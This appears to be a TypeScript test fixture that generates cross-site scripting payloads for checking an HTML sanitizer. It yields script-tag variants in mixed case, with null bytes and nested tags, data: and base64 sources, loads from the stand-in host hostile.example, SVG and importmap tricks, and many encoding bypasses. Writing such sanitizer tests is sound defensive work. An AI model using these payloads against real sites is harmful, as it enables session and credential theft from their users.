// Scripts in every spelling.
import { decimal, FOREIGN, hexadecimal, padded, RUN } from './hostile-code.ts';

export function* scripts(): Generator<string> {
  for (const tag of [
    'script',
    'SCRIPT',
    'ScRiPt',
    'sCRIPt',
    'script ',
    'script\t',
    'script/x',
    'script\n',
    'script\f',
  ]) {
    yield `<${tag}>${RUN}</script>`;
    yield `<${tag} type=module>${RUN}</script>`;
    yield `<b>${'x'}</b><${tag}>${RUN}//</script `;
  }
  for (const kind of ['text/javascript', 'application/ecmascript', '', 'text/jscript', 'TEXT/JAVASCRIPT', 'module']) {
    yield `<script type="${kind}">${RUN}</script>`;
    yield `<script language="${kind}" async defer>${RUN}</script>`;
  }
  yield `<scr<script>ipt>${RUN}</scr</script>ipt>`;
  yield `<<script>script>${RUN}<</script>/script>`;
  yield `<scr\u0000ipt>${RUN}</scr\u0000ipt>`;
  yield `<script\u0000>${RUN}</script>`;
  yield `\u0000<script>${RUN}</script>`;
  yield `<script src="data:text/javascript,${RUN}"></script>`;
  yield `<script src="data:text/javascript;base64,${btoa(RUN)}"></script>`;
  yield `<script src=${FOREIGN}/a.js></script>`;
  yield `<script src="//hostile.example/b.js"></script>`;
  yield `<script src=/\\hostile.example/c.js></script>`;
  yield `<script>/*<!--*/${RUN}/*-->*/</script>`;
  yield `<script><!--\n${RUN}\n--></script>`;
  yield `<svg><script>${RUN}</script></svg>`;
  yield `<svg><script href="data:text/javascript,${RUN}"/></svg>`;
  yield `<svg><script xlink:href="data:text/javascript,${RUN}"></script></svg>`;
  yield `<math><script>${RUN}</script></math>`;
  yield `<svg><script>${decimal(RUN)}</script></svg>`;
  yield `<table><script>${RUN}</script></table>`;
  yield `<select><script>${RUN}</script></select>`;
  yield `<p title="</p><script>${RUN}</script>">`;
  yield `<script>window['__h'+'it']=1</script>`;
  yield `<script>(0,eval)('${RUN}')</script>`;
  yield `<script>setTimeout('${RUN}')</script>`;
  yield `<script>alert(document.domain);${RUN}</script>`;
  yield `<script type="importmap">{"imports":{"x":"data:text/javascript,${RUN}"}}</script><script type=module>import 'x'</script>`;
  yield `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${FOREIGN}/p"]}]}</script>`;
  for (const text of [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`]) {
    yield decimal(text);
    yield padded(text);
    yield hexadecimal(text);
    yield text.replaceAll('<', '&lt;');
    yield text.replaceAll('<', '&LT').replaceAll('>', '&GT');
    yield encodeURIComponent(text);
    yield text.replaceAll('<', '\\u003c');
    yield text.replaceAll('<', '\\x3c');
    yield text.replaceAll('<', '＜').replaceAll('>', '＞');
    yield text.replaceAll('<', '‹').replaceAll('>', '›');
    yield text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-');
    yield text.replaceAll('<', '\u00bc').replaceAll('>', '\u00be');
    yield `\ufeff${text}`;
    yield `${text}<!--`;
    yield `"><${'/'}p>${text}`;
    yield `'>${text}<'`;
    yield `\`>${text}`;
    yield `--></style></title></textarea></noscript>${text}`;
    yield `]]>${text}`;
    yield `<![CDATA[${text}]]>`;
    yield `<?xml version="1.0"?>${text}`;
    yield `<!DOCTYPE x [<!ENTITY e '${text}'>]>&e;`;
  }
}
